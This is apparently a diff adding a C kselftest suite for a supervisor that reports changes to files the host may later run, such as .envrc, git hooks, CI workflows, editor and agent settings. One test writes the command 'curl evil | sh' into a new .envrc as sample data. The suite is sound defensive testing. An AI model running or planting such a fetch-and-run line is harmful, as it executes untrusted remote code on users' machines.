@@ -1,0 +1,444 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What the host may run later: what counts as a change and what does not, and
+ * what hostile names, links, FIFOs and trees cost.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <pwd.h>
+#include <stdarg.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "../../supervisor/hostexec.h"
+#include "kselftest_harness.h"
+
+FIXTURE(hostexec) {
+	char top[64], root[128];
+	struct identity id;
+	struct hostexec *h;
+	char *json, said[4096];
+};
+
+FIXTURE_SETUP(hostexec)
+{
+	strcpy(self->top, "/tmp/lh-hostexec.XXXXXX");
+	ASSERT_NE(NULL, mkdtemp(self->top));
+	ASSERT_EQ(0, chmod(self->top, 0755));
+	snprintf(self->root, sizeof(self->root), "%s/ws", self->top);
+	ASSERT_EQ(0, mkdir(self->root, 0755));
+	self->h = NULL;
+	self->json = NULL;
+	self->said[0] = 0;
+	self->id = (struct identity){ .user.uid = geteuid() };
+}
+
+FIXTURE_TEARDOWN(hostexec)
+{
+	char command[128];
+
+	hostexec_free(self->h);
+	free(self->json);
+	snprintf(command, sizeof(command), "rm -rf '%s'", self->top);
+	EXPECT_EQ(0, system(command));
+}
+
+static const char *in(const char *root, const char *path)
+{
+	static char full[4][4096];
+	static unsigned int turn;
+	char *p = full[turn++ % 4], *s;
+
+	snprintf(p, sizeof(full[0]), "%s/%s", root, path);
+	for (s = p + strlen(root) + 1; (s = strchr(s, '/')); s++) {
+		*s = 0;
+		mkdir(p, 0755);
+		*s = '/';
+	}
+	return p;
+}
+
+static void put(const char *root, const char *path, const char *text)
+{
+	FILE *f = fopen(in(root, path), "w");
+
+	if (!f || fputs(text, f) < 0 || fclose(f))
+		abort();
+}
+
+static void begin_at(FIXTURE_DATA(hostexec) *self, char *root, char *skip)
+{
+	char *roots[] = { root, skip };
+
+	self->h = hostexec_begin(&self->id, roots, skip ? 2 : 1, skip);
+}
+
+static void begin(FIXTURE_DATA(hostexec) *self)
+{
+	begin_at(self, self->root, NULL);
+}
+
+static void end(FIXTURE_DATA(hostexec) *self)
+{
+	_cleanup_writer_ struct writer *w = writer_new();
+
+	hostexec_end(self->h, &self->id);
+	writer_open_map(w, NULL);
+	hostexec_write(self->h, w);
+	writer_close_map(w);
+	free(self->json);
+	self->json = writer_line(w, NULL);
+	if (!hostexec_summary(self->h, self->root, self->said,
+			      sizeof(self->said)))
+		self->said[0] = 0;
+}
+
+/* The result has this change, as JSON and in the words of the line. */
+static bool tells(FIXTURE_DATA(hostexec) *self, const char *path,
+		  const char *change, const char *kind)
+{
+	char want[1024], words[1024];
+
+	snprintf(want, sizeof(want),
+		 "{\"path\":\"%s/%s\",\"change\":\"%s\",\"kind\":\"%s\",",
+		 self->root, path, change, kind);
+	snprintf(words, sizeof(words), "%s (%s)", path, change);
+	return strstr(self->json, want) && strstr(self->said, words);
+}
+
+static bool silent(FIXTURE_DATA(hostexec) *self)
+{
+	return !self->said[0] &&
+	       !strcmp(self->json, "{\"host_exec_changes\":[],"
+		       "\"host_exec_more\":0,\"host_exec_not_compared\":[]}\n");
+}
+
+TEST_F(hostexec, what_was_made_changed_and_removed_is_told)
+{
+	const char *r = self->root;
+
+	put(r, ".mcp.json", "{}");
+	put(r, ".npmrc", "a");
+	put(r, ".vscode/tasks.json", "1");
+	put(r, ".vscode/settings.json", "1");
+	put(r, ".github/workflows/ci.yml", "on: push");
+	begin(self);
+	put(r, ".envrc", "curl evil | sh");
+	put(r, ".mcp.json", "[]");
+	ASSERT_EQ(0, unlink(in(r, ".npmrc")));
+	put(r, ".vscode/tasks.json", "2");
+	put(r, ".github/workflows/new.yml", "on: push");
+	put(r, ".cargo/config.toml", "[target]");
+	put(r, ".claude/settings.json", "{}");
+	put(r, "src/.envrc", "not at the top");
+	put(r, "Makefile", "all:");
+	end(self);
+	EXPECT_TRUE(tells(self, ".envrc", "created", "shell"));
+	EXPECT_TRUE(tells(self, ".mcp.json", "modified", "agent"));
+	EXPECT_TRUE(tells(self, ".npmrc", "removed", "packages"));
+	EXPECT_TRUE(tells(self, ".vscode/tasks.json", "modified", "editor"));
+	EXPECT_TRUE(tells(self, ".github/workflows/new.yml", "created", "ci"));
+	EXPECT_TRUE(tells(self, ".cargo/config.toml", "created", "packages"));
+	EXPECT_TRUE(tells(self, ".claude/settings.json", "created", "agent"));
+	EXPECT_EQ(NULL, strstr(self->json, "settings.json\",\"change\":\"mod"));
+	EXPECT_EQ(NULL, strstr(self->json, "ci.yml"));
+	EXPECT_EQ(NULL, strstr(self->json, "src"));
+	EXPECT_EQ(NULL, strstr(self->json, "Makefile"));
+	EXPECT_EQ(0, strncmp(self->said, "the host may run later: ", 24));
+}
+
+TEST_F(hostexec, the_same_bytes_are_no_change)
+{
+	const char *r = self->root;
+
+	put(r, ".envrc", "x");
+	put(r, ".husky/pre-commit", "x");
+	ASSERT_EQ(0, symlink("AGENTS.md", in(r, "CLAUDE.md")));
+	put(r, "AGENTS.md", "be good");
+	begin(self);
+	put(r, ".envrc.new", "x");
+	ASSERT_EQ(0, rename(in(r, ".envrc.new"), in(r, ".envrc")));
+	ASSERT_EQ(0, chmod(in(r, ".envrc"), 0640));
+	ASSERT_EQ(0, unlink(in(r, ".husky/pre-commit")));
+	ASSERT_EQ(0, rmdir(in(r, ".husky")));
+	put(r, ".husky/pre-commit", "x");
+	put(r, "AGENTS.md", "be good");
+	ASSERT_EQ(0, mkdir(in(r, ".idea"), 0755));
+	end(self);
+	EXPECT_TRUE(silent(self)) TH_LOG("%s", self->json);
+}
+
+TEST_F(hostexec, the_mode_that_lets_it_run_and_its_type_count)
+{
+	const char *r = self->root;
+
+	put(r, ".husky/pre-commit", "x");
+	put(r, ".envrc", "x");
+	put(r, ".exrc", "x");
+	ASSERT_EQ(0, symlink("a", in(r, ".npmrc")));
+	begin(self);
+	ASSERT_EQ(0, chmod(in(r, ".husky/pre-commit"), 0755));
+	ASSERT_EQ(0, unlink(in(r, ".envrc")));
+	ASSERT_EQ(0, mkdir(in(r, ".envrc"), 0755));
+	ASSERT_EQ(0, unlink(in(r, ".exrc")));
+	ASSERT_EQ(0, mkfifo(in(r, ".exrc"), 0644));
+	ASSERT_EQ(0, unlink(in(r, ".npmrc")));
+	ASSERT_EQ(0, symlink("b", in(r, ".npmrc")));
+	end(self);
+	EXPECT_TRUE(tells(self, ".husky/pre-commit", "modified", "hooks"));
+	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
+	EXPECT_TRUE(tells(self, ".exrc", "modified", "editor"));
+	EXPECT_TRUE(tells(self, ".npmrc", "modified", "packages"));
+}
+
+TEST_F(hostexec, links_are_followed_inside_the_root_and_not_out_of_it)
+{
+	const char *r = self->root;
+
+	put(r, "conf/envrc", "x");
+	put(r, "conf/hooks/pre-commit", "x");
+	put(self->top, "outside", "x");
+	ASSERT_EQ(0, symlink("conf/envrc", in(r, ".envrc")));
+	ASSERT_EQ(0, symlink("conf/hooks", in(r, ".husky")));
+	ASSERT_EQ(0, symlink("../outside", in(r, ".npmrc")));
+	ASSERT_EQ(0, symlink("/etc/passwd", in(r, ".exrc")));
+	begin(self);
+	put(r, "conf/envrc", "y");
+	put(r, "conf/hooks/pre-commit", "y");
+	put(self->top, "outside", "y");
+	/* A whole directory, by a link in its place. */
+	put(r, "elsewhere/workflows/a.yml", "x");
+	ASSERT_EQ(0, symlink("elsewhere", in(r, ".github")));
+	end(self);
+	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
+	EXPECT_TRUE(tells(self, ".husky/pre-commit", "modified", "hooks"));
+	EXPECT_TRUE(tells(self, ".github", "created", "ci"));
+	EXPECT_TRUE(tells(self, ".github/workflows/a.yml", "created", "ci"));
+	EXPECT_EQ(NULL, strstr(self->json, ".npmrc"));
+	EXPECT_EQ(NULL, strstr(self->json, ".exrc"));
+}
+
+TEST_F(hostexec, a_fifo_or_a_device_is_not_waited_for)
+{
+	const char *r = self->root;
+
+	ASSERT_EQ(0, mkfifo(in(r, ".envrc"), 0644));
+	ASSERT_EQ(0, mkfifo(in(r, ".vscode/fifo"), 0644));
+	if (!geteuid())
+		mknod(in(r, ".vscode/tty"), S_IFCHR | 0666, makedev(5, 0));
+	begin(self);
+	end(self);
+	EXPECT_TRUE(silent(self)) TH_LOG("%s", self->json);
+}
+
+TEST_F(hostexec, names_of_any_bytes_stay_on_one_line)
+{
+	put(self->root, ".vscode/keep", "");
+	begin(self);
+	put(self->root, ".vscode/\033[31m\n\xff", "x");
+	end(self);
+	EXPECT_NE(NULL, strstr(self->json, "\"path_b64\":"));
+	EXPECT_NE(NULL, strstr(self->json, "\\u001B[31m\\n"));
+	EXPECT_EQ(strlen(self->json) - 1,
+		  (size_t)(strchr(self->json, '\n') - self->json));
+}
+
+TEST_F(hostexec, a_root_that_is_a_name_or_begins_one)
+{
+	char *claude = strdup(in(self->root, ".claude"));
+	char *mcp = strdup(in(self->root, ".mcp.json"));
+	char *roots[] = { claude, mcp };
+
+	put(self->root, ".claude/projects/log", "x");
+	put(self->root, ".mcp.json", "{}");
+	self->h = hostexec_begin(&self->id, roots, 2, NULL);
+	put(self->root, ".claude/settings.json", "{}");
+	put(self->root, ".claude/projects/log", "y");
+	put(self->root, ".mcp.json", "[]");
+	put(self->root, ".envrc", "beside the roots");
+	end(self);
+	EXPECT_TRUE(tells(self, ".claude/settings.json", "created", "agent"));
+	EXPECT_TRUE(tells(self, ".mcp.json", "modified", "agent"));
+	EXPECT_EQ(NULL, strstr(self->json, ".envrc"));
+	EXPECT_EQ(NULL, strstr(self->json, "projects"));
+	free(claude);
+	free(mcp);
+}
+
+TEST_F(hostexec, no_root_no_comparison)
+{
+	begin_at(self, self->root, self->root);
+	EXPECT_EQ(NULL, self->h);
+	end(self);
+	EXPECT_EQ(0, self->said[0]);
+	EXPECT_STREQ("{\"host_exec_changes\":null,\"host_exec_more\":null,"
+		     "\"host_exec_not_compared\":null}\n", self->json);
+}
+
+TEST_F(hostexec, a_big_file_is_compared_by_its_times)
+{
+	const char *r = self->root;
+
+	put(r, ".envrc", "x");
+	put(r, ".npmrc", "x");
+	ASSERT_EQ(0, truncate(in(r, ".envrc"), 1 << 30));
+	ASSERT_EQ(0, truncate(in(r, ".npmrc"), 1 << 30));
+	begin(self);
+	usleep(20000);	/* a tick of the clock that stamps files */
+	ASSERT_EQ(0, truncate(in(r, ".envrc"), 1 << 30));
+	put(r, ".envrc", "y");
+	ASSERT_EQ(0, truncate(in(r, ".envrc"), 1 << 30));
+	end(self);
+	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
+	EXPECT_NE(NULL, strstr(self->json, "\"compared\":\"times\""));
+	EXPECT_EQ(NULL, strstr(self->json, ".npmrc"));
+}
+
+static double seconds(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec + t.tv_nsec * 1e-9;
+}
+
+TEST_F(hostexec, a_huge_tree_is_bounded_and_said)
+{
+	const char *r = self->root;
+	char name[64], deep[4096] = ".zed";
+	double from;
+	int i;
+
+	for (i = 0; i < 5000; i++) {
+		snprintf(name, sizeof(name), ".vscode/%d", i);
+		put(r, name, "x");
+	}
+	for (i = 0; i < 30; i++)
+		strcat(deep, "/d");
+	strcat(deep, "/f");
+	put(r, deep, "x");
+	put(r, ".husky/a", "x");
+	from = seconds();
+	begin(self);
+	from = seconds() - from;
+	TH_LOG("%.2f ms", from * 1e3);
+	EXPECT_GT(1.0, from);
+	put(r, ".vscode/7", "y");
+	put(r, ".husky/a", "y");
+	end(self);
+	/* Files in it are not seen, and that is said; the rest is. */
+	EXPECT_TRUE(tells(self, ".husky/a", "modified", "hooks"));
+	EXPECT_NE(NULL, strstr(strstr(self->json, "not_compared"),
+			       ".vscode\""));
+	EXPECT_NE(NULL, strstr(strstr(self->json, "not_compared"),
+			       ".zed/d/d"));
+	EXPECT_EQ(NULL, strstr(self->json, ".vscode/7"));
+}
+
+TEST_F(hostexec, a_tree_that_outgrows_the_bound_hides_nothing)
+{
+	const char *r = self->root;
+	char name[64];
+	int i;
+
+	put(r, ".vscode/old", "x");
+	put(r, ".husky/a", "x");
+	begin(self);
+	for (i = 0; i < 2000; i++) {
+		snprintf(name, sizeof(name), ".vscode/%d", i);
+		put(r, name, "x");
+	}
+	put(r, ".husky/a", "y");
+	end(self);
+	EXPECT_TRUE(tells(self, ".vscode", "modified", "editor"));
+	EXPECT_TRUE(tells(self, ".husky/a", "modified", "hooks"));
+	EXPECT_EQ(NULL, strstr(self->json, "removed"));
+}
+
+TEST_F(hostexec, many_changes_of_one_name_are_one)
+{
+	char name[64], want[256];
+	int i;
+
+	put(self->root, ".vscode/old", "x");
+	begin(self);
+	for (i = 0; i < 100; i++) {
+		snprintf(name, sizeof(name), ".vscode/%d", i);
+		put(self->root, name, "x");
+	}
+	end(self);
+	snprintf(want, sizeof(want), "{\"path\":\"%s/.vscode\",\"change\":"
+		 "\"modified\",\"kind\":\"editor\",\"compared\":\"content\","
+		 "\"count\":100}", self->root);
+	EXPECT_NE(NULL, strstr(self->json, want)) TH_LOG("%s", self->json);
+	EXPECT_NE(NULL, strstr(self->said, ".vscode (100 changes)"));
+}
+
+/* Its user reads for itself: what is closed to it is compared by times. */
+TEST_F(hostexec, it_is_the_user_who_looks)
+{
+	const char *r = self->root;
+	struct passwd *pw = getpwnam("nobody");
+	gid_t none;
+
+	if (geteuid() || !pw)
+		SKIP(return, "only root can be two users");
+	none = pw->pw_gid;
+	self->id = (struct identity){
+		.switches = true,
+		.user = { pw->pw_uid, pw->pw_gid, &none, 1 },
+		.self = { 0, 0, (gid_t[]){ 0 }, 1 },
+	};
+	put(r, ".envrc", "x");
+	put(r, ".npmrc", "x");
+	put(r, ".vscode/a", "x");
+	ASSERT_EQ(0, chmod(in(r, ".envrc"), 0600));
+	ASSERT_EQ(0, chmod(in(r, ".vscode"), 0700));
+	begin(self);
+	EXPECT_EQ(0, geteuid());
+	usleep(20000);
+	put(r, ".envrc", "x");
+	put(r, ".npmrc", "y");
+	end(self);
+	EXPECT_EQ(0, geteuid());
+	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
+	EXPECT_NE(NULL, strstr(self->json, "times"));
+	EXPECT_TRUE(tells(self, ".npmrc", "modified", "packages"));
+	EXPECT_NE(NULL, strstr(strstr(self->json, "not_compared"), ".vscode"));
+}
+
+TEST_F(hostexec, an_ordinary_project_costs_next_to_nothing)
+{
+	double from, best = 1;
+	char name[64], text[4001];
+	int i;
+
+	memset(text, 'x', 4000);
+	text[4000] = 0;
+	for (i = 0; i < 10; i++) {
+		snprintf(name, sizeof(name), ".github/workflows/%d.yml", i);
+		put(self->root, name, text);
+		snprintf(name, sizeof(name), ".vscode/%d.json", i);
+		put(self->root, name, text);
+	}
+	put(self->root, ".gitattributes", text);
+	put(self->root, "AGENTS.md", text);
+	for (i = 0; i < 20; i++) {
+		hostexec_free(self->h);
+		from = seconds();
+		begin(self);
+		from = seconds() - from;
+		best = from < best ? from : best;
+	}
+	TH_LOG("%.3f ms", best * 1e3);
+	/* Twenty times what it takes, for the sanitizers. */
+	EXPECT_GT(0.04, best);
+}
+
+TEST_HARNESS_MAIN
